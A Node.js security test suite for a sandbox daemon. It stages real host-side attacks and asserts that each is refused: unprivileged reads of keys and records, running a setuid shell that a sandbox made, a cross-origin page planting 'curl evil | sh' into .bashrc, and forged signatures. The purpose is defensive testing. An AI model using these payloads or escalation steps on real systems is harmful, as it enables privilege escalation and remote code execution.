// Issue 12, the host side: what a host user without privileges, a web page of another origin
// and a careless API client can do to sandboxd and its sandboxes. Every attack is made for real
// and its effect checked on the host (modes, file contents, who ran what), not only the answer.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';

import { Sandbox, SandboxError } from 'e2b';
import { launchChromium } from '../helpers/chromium.mjs';
import { asNobody } from '../helpers/host-user.mjs';
import { createSandbox, startSuiteSandboxd } from '../helpers/test-template.mjs';
import { viaHost } from '../sandboxd/util.mjs';

const KNOWN_KEY = `e2b_${randomBytes(20).toString('hex')}`;
const secretEnv = `secret-${randomBytes(8).toString('hex')}`;

let parent;
let dataDir;
let sd;
let sbx;
before(async () => {
  // A data dir a host user can reach the door of, as /var/lib/sandboxd would be. It already
  // exists with the modes an older sandboxd (or a careless admin) left: too open.
  parent = mkdtempSync('/var/tmp/sandboxd-security-');
  chmodSync(parent, 0o755);
  dataDir = join(parent, 'data');
  mkdirSync(join(dataDir, 'control'), { recursive: true, mode: 0o755 });
  chmodSync(dataDir, 0o755);
  writeFileSync(join(dataDir, 'api-key'), `${KNOWN_KEY}\n`, { mode: 0o644 });
  writeFileSync(join(dataDir, 'control/secret'), `${randomBytes(32).toString('hex')}\n`, { mode: 0o644 });
  sd = await startSuiteSandboxd({ dataDir });
  sbx = await createSandbox({ envs: { LEAK_ME: secretEnv } });
});
after(async () => {
  await sbx?.kill();
  await sd?.stop();
  rmSync(parent, { recursive: true, force: true });
});

const mode = (path) => statSync(path).mode & 0o7777;
const octal = (m) => `0${m.toString(8)}`;

describe('a host user without privileges', () => {
  test('reads none of the records, keys or layers', async () => {
    assert.equal(sd.apiKey, KNOWN_KEY, 'the existing key was not kept');
    const layer = join(dataDir, 'runtime/layers', sbx.sandboxId);
    // As root the files are there: the attempts below fail for their modes, not their absence.
    assert.ok(readFileSync(join(dataDir, 'control/sandboxes.json'), 'utf8').includes(secretEnv));
    assert.ok(existsSync(join(layer, 'fs/upper')));
    for (const file of ['control/sandboxes.json', 'api-key', 'control/secret', 'runtime/instance']) {
      const read = asNobody(['cat', join(dataDir, file)]);
      assert.notEqual(read.status, 0, `nobody read ${file}`);
      assert.equal(read.stdout, '', `nobody read ${file}`);
    }
    for (const dir of [dataDir, join(dataDir, 'runtime/layers'), layer, join(layer, 'fs/upper')]) {
      const list = asNobody(['ls', '-A', dir]);
      assert.notEqual(list.status, 0, `nobody listed ${dir}: ${list.stdout}`);
    }
    const find = asNobody(['find', dataDir]);
    assert.deepEqual(find.stdout.trim().split('\n'), [dataDir], 'nobody saw inside the data dir');
  });

  test('the data dir is 0700/0600 down to the sandboxes\' own files, whose modes stay', async () => {
    const runtime = join(dataDir, 'runtime');
    const layer = join(runtime, 'layers', sbx.sandboxId);
    // The base template's root is machine-wide, under a directory as closed as the data dir.
    const buildId = /^BUILD_ID=(.+)$/m.exec((await sbx.commands.run('cat /.e2b')).stdout)[1];
    const build = join('/var/cache/sandboxd', buildId);
    const dirs = [dataDir, join(dataDir, 'control'), runtime, join(runtime, 'templates'), join(runtime, 'template-layers'), join(runtime, 'layers'), layer, '/var/cache/sandboxd', build];
    for (const dir of dirs) assert.equal(octal(mode(dir)), '0700', dir);
    const files = ['api-key', 'control/secret', 'control/sandboxes.json', 'control/templates.json', 'runtime/lock', 'runtime/instance'].map((f) => join(dataDir, f));
    files.push(join(layer, 'disk.img'));
    for (const file of files) assert.equal(octal(mode(file)), '0600', file);
    assert.deepEqual(readdirSync(join(dataDir, 'control')).sort(), ['sandboxes.json', 'secret', 'templates.json'], 'a temporary file was left');

    // Inside the template and the layer, modes are what the sandbox needs.
    const root = join(build, 'root');
    assert.equal(octal(mode(root)), '0755');
    assert.equal(octal(mode(join(root, 'tmp'))), '01777');
    const inside = await sbx.commands.run('stat -c %a / /tmp');
    assert.deepEqual(inside.stdout.trim().split('\n'), ['755', '1777']);

    // The machine-wide lock directory, and this instance's lock in it.
    const instance = readFileSync(join(runtime, 'instance'), 'utf8').trim();
    assert.equal(octal(mode('/run/sandboxd')), '0700');
    assert.equal(octal(mode(`/run/sandboxd/instance-${instance}.lock`)), '0600');
  });

  test('cannot run a setuid file a sandbox made in its writable layer', async () => {
    const made = await sbx.commands.run('sudo cp /bin/bash /home/user/b && sudo chmod 4755 /home/user/b && stat -c %a /home/user/b');
    assert.equal(made.stdout.trim(), '4755');
    const onHost = join(dataDir, 'runtime/layers', sbx.sandboxId, 'fs/upper/home/user/b');
    assert.ok(existsSync(onHost), 'the setuid copy is not where the attack looks for it');

    // What the attacker would change with a root shell: a root-owned host file.
    const victim = join(parent, 'victim');
    writeFileSync(victim, 'untouched\n', { mode: 0o644 });
    const attack = asNobody([onHost, '-p', '-c', `id -u; echo owned > ${victim}`]);
    assert.notEqual(attack.status, 0, `the setuid copy ran: ${attack.stdout}`);
    assert.doesNotMatch(attack.stdout, /^0$/m, 'euid 0 for a host user');
    assert.equal(readFileSync(victim, 'utf8'), 'untouched\n');
    assert.equal(octal(mode(victim)), '0644');
  });
});

/** A non-secure sandbox (v1 create without `secure`, as the Python SDK's `secure=False`). */
async function createNonSecure() {
  const res = await fetch(`${sd.apiUrl}/sandboxes`, {
    method: 'POST',
    headers: { 'X-API-Key': sd.apiKey, 'Content-Type': 'application/json' },
    body: JSON.stringify({ templateID: 'base', timeout: 120 }),
  });
  assert.equal(res.status, 201);
  const { sandboxID, envdAccessToken } = await res.json();
  assert.ok(!envdAccessToken, 'the sandbox is secure');
  return Sandbox.connect(sandboxID);
}

describe('a web page of another origin', () => {
  test('cannot write or read a sandbox\'s files through an unaddressed /files', async () => {
    const open = await createNonSecure();
    // The only other running sandbox is secure: kill it so that the open one is the only one,
    // the case the old routing handed any /files request to.
    await sbx.kill();
    sbx = undefined;
    const page = createServer((req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end('<!doctype html><title>elsewhere</title>');
    });
    await new Promise((r) => page.listen(0, '127.0.0.1', r));
    const origin = `http://127.0.0.1:${page.address().port}`;
    const browser = await launchChromium();
    try {
      const before = await open.files.read('/home/user/.bashrc');
      const tab = await browser.context.newPage();
      await tab.goto(origin);
      const outcome = await tab.evaluate(async (target) => {
        const form = new FormData();
        form.append('file', new Blob(['curl evil | sh\n']), '.bashrc');
        const write = await fetch(`${target}/files?path=/home/user/.bashrc`, { method: 'POST', body: form });
        const read = await fetch(`${target}/files?path=/home/user/.bashrc`);
        return { write: write.status, writeBody: await write.text(), read: read.status, readBody: await read.text() };
      }, sd.sandboxUrl);
      assert.equal(outcome.write, 400, outcome.writeBody);
      assert.match(outcome.writeBody, /E2b-Sandbox-Id/);
      assert.equal(outcome.read, 400);
      assert.ok(!outcome.readBody.includes(before.slice(0, 40)), 'the page read .bashrc');
      assert.equal(await open.files.read('/home/user/.bashrc'), before);

      // The same from a plain client sending the page's Origin, and with a forged signature.
      const forged = await fetch(`${sd.sandboxUrl}/files?path=/home/user/.bashrc&username=user&signature=v1_${'A'.repeat(43)}`, {
        headers: { Origin: origin },
      });
      assert.equal(forged.status, 401);
      assert.doesNotMatch(await forged.text(), /bash/);
      assert.equal(await open.files.read('/home/user/.bashrc'), before);
      // Addressed requests still work.
      assert.equal(await (await fetch(`${sd.sandboxUrl}/files?path=/home/user/.bashrc`, {
        headers: { 'E2b-Sandbox-Id': open.sandboxId, 'E2b-Sandbox-Port': '49983' },
      })).text(), before);

      // What the README says of a non-secure sandbox's presigned URLs: with E2B_SANDBOX_URL the
      // SDK makes them unsigned and unaddressed, so they are refused; its per-port host works.
      const unsigned = new URL(await open.downloadUrl('/home/user/.bashrc'));
      assert.equal(unsigned.origin + unsigned.pathname, `${sd.sandboxUrl}/files`);
      assert.equal(unsigned.searchParams.get('signature'), null);
      assert.equal((await fetch(unsigned)).status, 400);
      const byHost = await viaHost(sd, open.getHost(49983), '/files?path=/home/user/.bashrc');
      assert.equal(byHost.status, 200);
      assert.equal(byHost.body, before);
    } finally {
      await browser.close();
      page.close();
      await open.kill();
    }
  });
});

describe('API input and answers', () => {
  test('a negative or oversized setTimeout is a 400 and the sandbox runs on', async () => {
    const victim = await createSandbox({ timeoutMs: 120_000 });
    try {
      const { endAt } = await victim.getInfo();
      // (-1 ms would go out as `ceil(-0.001)` = 0 s: "expire now", a valid value.)
      for (const timeoutMs of [-5_000, -1_000, 25 * 3600 * 1000]) {
        await assert.rejects(victim.setTimeout(timeoutMs), (err) => {
          assert.ok(err instanceof SandboxError, `${err?.name}: ${err?.message}`);
          assert.match(err.message, /^400: Timeout /);
          return true;
        });
      }
      for (const body of ['{"timeout":-1}', '{"timeout":1e30}', '{"timeout":"10"}']) {
        const res = await fetch(`${sd.apiUrl}/sandboxes/${victim.sandboxId}/timeout`, {
          method: 'POST',
          headers: { 'X-API-Key': sd.apiKey, 'Content-Type': 'application/json' },
          body,
        });
        assert.equal(res.status, 400, body);
        assert.equal((await res.json()).code, 400);
      }
      await assert.rejects(Sandbox.connect(victim.sandboxId, { timeoutMs: -5_000 }), /^SandboxError: 400/);
      await assert.rejects(createSandbox({ timeoutMs: -5_000 }), /^SandboxError: 400/);
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(await victim.isRunning(), true);
      assert.equal((await victim.commands.run('echo alive')).stdout, 'alive\n');
      assert.equal((await victim.getInfo()).endAt.getTime(), endAt.getTime(), 'the timeout changed');
    } finally {
      await victim.kill();
    }
  });

  test('auth errors name no host path', async () => {
    for (const headers of [{ 'X-API-Key': `e2b_${'0'.repeat(40)}` }, { Authorization: 'Bearer nope' }, {}]) {
      const res = await fetch(`${sd.apiUrl}/v2/sandboxes`, { headers });
      assert.equal(res.status, 401);
      const body = await res.text();
      assert.match(JSON.parse(body).message, /API key|authorization/i);
      assert.ok(!body.includes(parent), `the 401 names the data dir: ${body}`);
      assert.doesNotMatch(body, /\/(var|tmp|root|home|run)\//, `a host path: ${body}`);
    }
  });
});
